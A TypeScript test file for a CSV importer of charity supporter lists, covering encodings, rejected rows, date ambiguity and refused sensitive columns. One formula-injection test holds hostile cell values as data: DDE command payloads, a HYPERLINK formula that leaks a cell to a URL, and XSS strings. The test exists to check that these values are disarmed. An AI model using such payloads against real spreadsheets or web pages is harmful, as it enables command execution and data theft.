import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  defaultMapping,
  type InspectedColumn,
  type RejectedRow,
  type Supporter,
} from 'shared-kernel/model';
import type { ImportFaultCode } from './importFault';
import { inspectSupporters } from './inspectSupporters';
import { previewFile } from './previewFile';
import type { ReadOptions } from './readColumns';
import { readSupporters, type SupporterFile } from './readSupporters';
import { REJECTION_WORDS, rejectedRowLine, rejectedRowsHead } from './rejectedRowsCsv';
import type { RejectedCells } from './rows/supporterRows';
import { createFieldProfiler } from './profiling/fieldProfiler';
import { inferFieldType } from './profiling/fieldTypes';

const FOLDER = join(__dirname, '../test/fixtures/bad');
const bytesOf = (name: string): Uint8Array => readFileSync(join(FOLDER, `${name}.csv`));

const readBad = async (name: string, options?: ReadOptions): Promise<SupporterFile> => {
  const file = await readSupporters([bytesOf(name)], options);
  if (!file.ok) throw new Error(file.error.message);
  return file.value;
};

const inspectBad = async (name: string): Promise<readonly InspectedColumn[]> => {
  const inspection = await inspectSupporters([bytesOf(name)]);
  if (!inspection.ok) throw new Error(inspection.error.message);
  return inspection.value.columns;
};

const columnOf = (columns: readonly InspectedColumn[], header: string): InspectedColumn => {
  const column = columns.find((one) => one.header.trim() === header);
  if (column === undefined) throw new Error(`No column ${header}`);
  return column;
};

const noteOf = ({ notes }: InspectedColumn, code: string): string | undefined =>
  notes.find((note) => note.code === code)?.text;

/** The five people of most of these files, as they are read. */
const FIVE_PEOPLE: readonly Supporter[] = [
  {
    email: 'bea.holt@example.org',
    supporterId: '5001',
    fields: {
      'First Name': 'Bea',
      City: 'Norwich',
      'Date Joined': '4/8/2019',
      'PET Clean Beaches 2026': '14/03/2026',
      'DON Spring Appeal 2026': 'CREDIT_SINGLE~success::25.00~771201',
      'Events Attended': '2',
      Comment: 'Lovely walk, café was closed though',
    },
  },
  {
    email: 'idris.vale@example.org',
    supporterId: '5002',
    fields: {
      'First Name': 'Idris',
      City: 'Cardiff',
      'Date Joined': '17/2/2021',
      'PET Clean Beaches 2026': '8123:P:31/12/2026',
    },
  },
  {
    email: 'zoe.marsh@example.com',
    supporterId: '5003',
    fields: {
      'First Name': 'Zoë',
      City: 'Malmö',
      'Date Joined': '29/2/2024',
      'DON Spring Appeal 2026': 'RECUR_UNMANAGED~success::10.00~success::10.00~refund::10.00',
      'Events Attended': '11',
      Comment: 'She said "come back soon"',
    },
  },
  {
    email: 'tom.rook@example.com',
    supporterId: '5004',
    fields: {
      'First Name': 'Tom',
      City: 'Ryde, Isle of Wight',
      'Date Joined': '1/12/2025',
      'PET Clean Beaches 2026': '8124:P:01/01/2026:Y',
      'Events Attended': '0',
      Comment: 'Three bags of rubbish,\none happy seal',
    },
  },
  {
    email: 'soren.kell@example.org',
    supporterId: '5005',
    fields: {
      'First Name': 'Søren',
      City: 'Oban',
      'Date Joined': '30/6/2026',
      'DON Spring Appeal 2026': 'CREDIT_SINGLE~success::1500.00~771202',
      'Events Attended': '5',
      Comment: '€10 for tea – keep the change',
    },
  },
];

const withComment = (email: string, comment: string): readonly Supporter[] =>
  FIVE_PEOPLE.map((one) =>
    one.email === email ? { ...one, fields: { ...one.fields, Comment: comment } } : one,
  );

describe('files with a shape of their own are read as they are meant', () => {
  it.each([
    ['bom-crlf', 'utf-8', ',', '\r\n', true],
    ['windows-1252', 'windows-1252', ',', '\n', false],
    ['utf-16le', 'utf-16le', '\t', '\r\n', true],
    ['semicolon', 'utf-8', ';', '\n', false],
    ['tab', 'utf-8', '\t', '\n', false],
    ['old-mac-cr', 'utf-8', ',', '\r', false],
    ['email-column-other-name', 'utf-8', ',', '\n', false],
  ])('[I1] [I2] [I3] %s', async (name, encoding, delimiter, lineEnd, bom) => {
    const file = await readBad(name);
    const isOneLine = name === 'old-mac-cr';
    const expected = isOneLine
      ? withComment('tom.rook@example.com', 'Three bags of rubbish, one happy seal')
      : FIVE_PEOPLE;
    expect(file.supporters).toEqual(expected);
    expect(file.rejectedRows).toEqual([]);
    expect(file).toMatchObject({ encoding, delimiter });
    expect(file.columns).toHaveLength(9);
    expect(file.columns[0]?.name).toBe('Supporter ID');

    const preview = previewFile(bytesOf(name), { isWhole: true });
    expect(preview).toMatchObject({ encoding, delimiter, lineEnd, bom, fault: null });
    expect(preview.rows).toHaveLength(5);
  });

  it('[I1] windows-1252 is not certain, shows its accents, and may be read otherwise', async () => {
    const preview = previewFile(bytesOf('windows-1252'), { isWhole: true });
    expect(preview.encodingCertain).toBe(false);
    for (const text of ['Zoë', 'Malmö', '€10 for tea – keep the change']) {
      expect(preview.accentSample).toContain(text);
    }
    expect(JSON.stringify((await readBad('windows-1252')).supporters)).not.toContain('\uFFFD');
    const other = previewFile(bytesOf('windows-1252'), { isWhole: true, encoding: 'utf-8' });
    expect(other.accentSample).toContain('\uFFFD');
    expect(other.encodingCertain).toBe(false);
  });
});

describe('files that cannot be imported say why', () => {
  it.each<[string, ImportFaultCode, string]>([
    ['empty', 'import/empty', 'The file is empty.'],
    ['only-blank-lines', 'import/no-header', 'No header found: the file has only blank lines.'],
    [
      'unterminated-quote',
      'import/unclosed-quote',
      'The file cannot be read: a quote opened on line 4 is never closed.',
    ],
    [
      'spreadsheet-renamed',
      'import/spreadsheet',
      'This is a spreadsheet, not CSV: give it the ending .xlsx, or save it as CSV.',
    ],
  ])('[I7] [I8] %s', async (name, code, message) => {
    const fault = expect.objectContaining({ code, message }) as unknown;
    expect(await readSupporters([bytesOf(name)])).toEqual({ ok: false, error: fault });
    expect(await inspectSupporters([bytesOf(name)])).toEqual({ ok: false, error: fault });
    expect(previewFile(bytesOf(name), { isWhole: true }).fault).toEqual(fault);
  });

  it('[I4] no-email-column is refused; one may be chosen, and rejects what is no email', async () => {
    expect(await readSupporters([bytesOf('no-email-column')])).toMatchObject({
      error: { code: 'import/no-email-column' },
    });
    const columns = await inspectBad('no-email-column');
    expect(columns).toHaveLength(8);
    expect(defaultMapping(columns)).toBeNull();
    const file = await readBad('no-email-column', { emailPosition: 2 });
    expect(file.counts).toMatchObject({ rows: 5, rejectedInvalidEmail: 5, supporters: 0 });
  });
});

describe('rows that cannot go in are listed by line and reason', () => {
  it.each<[string, number, readonly RejectedRow[]]>([
    [
      'missing-and-invalid-emails',
      2,
      [
        { line: 3, reason: 'noEmail' },
        { line: 4, reason: 'noEmail' },
        { line: 5, reason: 'invalidEmail' },
        { line: 7, reason: 'invalidEmail' },
        { line: 8, reason: 'invalidEmail' },
        { line: 9, reason: 'invalidEmail' },
        { line: 10, reason: 'invalidEmail' },
      ],
    ],
    ['odd-emails', 9, [{ line: 4, reason: 'invalidEmail' }]],
    [
      'ragged',
      4,
      [
        { line: 5, reason: 'tooManyCells' },
        { line: 8, reason: 'noEmail' },
      ],
    ],
    [
      'nul-bytes',
      2,
      [
        { line: 3, reason: 'nulCharacter' },
        { line: 4, reason: 'nulCharacter' },
      ],
    ],
    ['huge-cell', 2, [{ line: 3, reason: 'cellTooLarge' }]],
    ['quote-in-the-middle', 3, []],
    ['blank-lines', 2, []],
    ['header-only', 0, []],
    ['formula-injection', 9, []],
    ['wide-2000-columns', 3, []],
  ])('[I6] %s', async (name, supporters, rejectedRows) => {
    const rejected: RejectedCells[] = [];
    const file = await readBad(name, { onRejected: (row) => rejected.push(row) });
    expect(file.supporters).toHaveLength(supporters);
    expect(file.rejectedRows).toEqual(rejectedRows);

    const csv = rejectedRowsHead([]) + rejected.map(rejectedRowLine).join('');
    for (const { line, reason } of rejectedRows) {
      expect(csv).toContain(`\n${line},${REJECTION_WORDS[reason]},`);
    }
  });

  it('[I5] odd-emails are read under their address, trimmed and lower-cased', async () => {
    const { supporters } = await readBad('odd-emails');
    expect(supporters.map(({ email }) => email)).toEqual([
      "o'dara@example.org",
      'tom+sea@example.org',
      '__proto__@example.org',
      '.@example.org',
      'zoë@example.org',
      'upper.case@example.org',
      'nbsp@example.org',
      `${'x'.repeat(64)}@example.org`,
      'constructor@example.com',
    ]);
  });

  it('[I6] ragged rows that are short are counted and read with the rest empty', async () => {
    const { supporters, shortRows } = await readBad('ragged');
    expect(shortRows).toBe(1);
    expect(supporters[0]).toEqual({
      email: 'bea.holt@example.org',
      supporterId: '5001',
      fields: { 'First Name': 'Bea', City: 'Norwich' },
    });
    expect(supporters[2]?.fields['Comment']).toBe('come back soon');
  });

  it('[I7] quote-in-the-middle keeps quotes as they stand', async () => {
    const { supporters } = await readBad('quote-in-the-middle');
    expect(supporters[1]?.fields).toMatchObject({
      'First Name': 'Idris "Id" Vale',
      Comment: 'said "yes" twice',
    });
  });

  it('[I6] nul-bytes leaves no NUL behind', async () => {
    const { supporters } = await readBad('nul-bytes');
    expect(supporters.map(({ supporterId }) => supporterId)).toEqual(['5001', '5004']);
    expect(JSON.stringify(supporters)).not.toContain('\\u0000');
  });
});

it('[I6] duplicate-emails merge, the last cell that is not blank winning, listed by line', async () => {
  const file = await readBad('duplicate-emails');
  expect(file.counts).toMatchObject({ rows: 7, mergedRows: 2, supporters: 5 });
  expect(file.mergedRows).toEqual([
    { line: 4, email: 'bea.holt@example.org' },
    { line: 6, email: 'bea.holt@example.org' },
  ]);
  expect(file.supporters[0]).toEqual({
    ...FIVE_PEOPLE[0],
    fields: { ...FIVE_PEOPLE[0]?.fields, City: 'Lowestoft', 'Events Attended': '3' },
  });
});

it('[I10] email-column-other-name is guessed, and said', async () => {
  const [, email] = await inspectBad('email-column-other-name');
  expect(email).toMatchObject({ header: 'E-mail address', role: 'email' });
  expect(email?.notes).toEqual([
    { code: 'emailByName', text: 'Taken as the email column by its name.' },
  ]);
});

it('[I11] duplicate-columns are told apart and said by position; the nameless one is left out', async () => {
  const columns = await inspectBad('duplicate-columns');
  expect(columns.filter(({ position }) => [4, 10, 11, 12, 13].includes(position))).toMatchObject([
    { name: 'City', role: 'data' },
    { name: 'City (2)', role: 'data' },
    { name: 'city', role: 'data' },
    { name: 'City (3)', role: 'data', filled: 0 },
    { name: '', role: 'leftOut' },
  ]);
  expect(noteOf(columns[9] ?? columnOf(columns, 'none'), 'repeatedName')).toBe(
    'Columns 4, 10, 11 and 12 have the same name, capitals aside. This one is called “City (2)”.',
  );
  expect(noteOf(columnOf(columns, ''), 'nameless')).toContain('Left out');

  const file = await readBad('duplicate-columns', {
    mapping: defaultMapping(columns)!,
  });
  expect(file.supporters).toHaveLength(5);
  expect(file.supporters[0]?.fields).toMatchObject({
    City: 'Norwich',
    'City (2)': 'second 0',
    city: 'third 0',
  });
  expect(file.fieldNames).not.toContain('');
});

it('[I14] formula-injection is stored as it is, and disarmed in what we write', async () => {
  const { supporters } = await readBad('formula-injection');
  const comments = supporters.map(({ fields }) => fields['Comment'] ?? '');
  expect(comments).toEqual([
    "=cmd|'/C calc'!A0",
    '+1+1',
    '-2+3',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?leak="&B2,"click")',
    '\t=1+1',
    '<img src=x onerror=alert(1)>',
    '{field|First Name|0|none|x}',
    '</script><script>alert(1)</script>',
  ]);
  const lines = comments.map((comment, number) =>
    rejectedRowLine({ line: number + 2, reason: 'noEmail', cells: [comment] }),
  );
  const csv = rejectedRowsHead([]) + lines.join('');
  const written = await readSupporters([Buffer.from(csv)], { emailPosition: 1 });
  expect(written.ok && written.value.counts.rows).toBe(9);
  const cells = csv.split('\r\n').map((line) => line.replace(/^\d+,No email,"?/, ''));
  for (const cell of cells.slice(1)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  expect(cells[1]).toBe("'=cmd|'/C calc'!A0");
});

it('[I12] ambiguous-dates says for each column how it is read, and converts nothing', async () => {
  const columns = await inspectBad('ambiguous-dates');
  const typeOf = (header: string) => columnOf(columns, header).type;
  expect(typeOf('All ambiguous')).toBe('date');
  const both = noteOf(columnOf(columns, 'All ambiguous'), 'ambiguousDates');
  expect(both?.match(/\(not /g)).toHaveLength(5);
  expect(both).toContain('2/6/2026 is 2 June 2026 (not 6 February 2026)');

  for (const header of ['Mixed orders', 'American', 'ISO', 'Two-digit year', 'With time']) {
    expect(typeOf(header)).toBe('string');
  }
  expect(noteOf(columnOf(columns, 'Mixed orders'), 'mixedOrders')).toContain(
    'of 12 values 4 fit day/month only, 4 fit month/day only, 4 fit both',
  );
  expect(noteOf(columnOf(columns, 'American'), 'americanDates')).toContain(
    'of 12 values 7 fit month/day only, 5 fit both orders',
  );
  expect(noteOf(columnOf(columns, 'ISO'), 'isoDates')).toContain('All 12 values');
  expect(noteOf(columnOf(columns, 'Two-digit year'), 'twoDigitYears')).toContain('All 12 values');
  expect(noteOf(columnOf(columns, 'With time'), 'timesOfDay')).toContain('All 12 values');

  const { supporters } = await readBad('ambiguous-dates');
  expect(supporters[1]?.fields).toMatchObject({ American: '2/14/2026', ISO: '2026-02-11' });
});

it('[I13] sensitive-columns are left out, with why, under a harmless name too', async () => {
  const columns = await inspectBad('sensitive-columns');
  const refused = columns.filter((column) => column.refused);
  expect(refused.map(({ header, role }) => [header, role])).toEqual([
    ['Card Number', 'leftOut'],
    ['CVV', 'leftOut'],
    ['IBAN', 'leftOut'],
    ['Password', 'leftOut'],
    ['Campaign Data 9', 'leftOut'],
  ]);
  expect(refused.map((column) => noteOf(column, 'refused'))).toEqual(
    ['card numbers', 'card security codes', 'bank accounts', 'passwords', 'card numbers'].map(
      (what) => expect.stringContaining(what) as unknown,
    ),
  );
  expect(refused.flatMap(({ samples }) => samples)).toEqual([]);

  const mapping = defaultMapping(columns)!;
  const file = await readBad('sensitive-columns', { mapping });
  expect(file.supporters.map(({ fields }) => fields)).toEqual([
    { 'First Name': 'Bea' },
    { 'First Name': 'Tom' },
  ]);
});

it('[I11] odd-column-names keep their values, each under its own name', async () => {
  const columns = await inspectBad('odd-column-names');
  const file = await readBad('odd-column-names', { mapping: defaultMapping(columns)! });
  expect(file.supporters).toHaveLength(3);
  const names = columns.filter(({ role }) => role === 'data').map(({ name }) => name);
  expect(names.slice(0, 15)).toEqual([
    'Q1 - Your view',
    'Reserve (name)',
    ')(',
    'a.b.c',
    'Petition/2026/Seas',
    '`tick`',
    '__proto__',
    'constructor',
    '__name__',
    '~*[]',
    'Zoë’s “page”',
    'padded',
    '=SUM(A1)',
    'Line break',
    'x'.repeat(500),
  ]);
  const values = 'Yes|Gull Rock|brace|dots|14/03/2026|tick|proto|ctor|name|signs|quotes|pad|5|two lines|long name|smile'; // prettier-ignore
  expect(Object.entries(file.supporters[0]?.fields ?? {})).toEqual(
    values.split('|').map((value, index) => [names[index], value]),
  );
  expect(columns.slice(1, 4).map((column) => noteOf(column, 'notInPlaceholders'))).toEqual([
    'Placeholders cannot hold |, { or }. Suggested spelling: Q1 - Your view',
    'Placeholders cannot hold |, { or }. Suggested spelling: Reserve (name)',
    'Placeholders cannot hold |, { or }. Suggested spelling: )(',
  ]);
  expect(noteOf(columns[15]!, 'shortenedName')).toContain('500 characters');
});

it('[I12] leading-zeros stay text; 18 digits are shown digit for digit', async () => {
  const columns = await inspectBad('leading-zeros');
  for (const header of ['Phone Number', 'Membership No', 'Postcode']) {
    expect(columnOf(columns, header).type).toBe('string');
    expect(noteOf(columnOf(columns, header), 'leadingZeros')).toContain('zeros stay');
  }
  const { supporters } = await readBad('leading-zeros');
  expect(supporters[0]?.fields).toMatchObject({ 'Phone Number': '07700900120', Postcode: '01010' });

  expect(noteOf(columnOf(columns, 'Big Number'), 'longNumbers')).toContain('digit for digit');
  const values = supporters.map(({ fields }) => fields['Big Number'] ?? '');
  const profiler = createFieldProfiler([{ name: 'Big Number', type: inferFieldType(values) }]);
  supporters.forEach((supporter) => profiler.add(supporter));
  expect(Object.keys(profiler.results()[0]?.spread ?? {}).sort()).toEqual(values);
});

it('[I10] wide-2000-columns are inspected one by one', async () => {
  const columns = await inspectBad('wide-2000-columns');
  expect(columns).toHaveLength(2000);
  expect(new Set(columns.map(({ name }) => name)).size).toBe(2000);
});

it('[I10] header-only has columns, no rows and no supporters', async () => {
  expect(await inspectSupporters([bytesOf('header-only')])).toMatchObject({
    ok: true,
    value: { rows: 0 },
  });
});
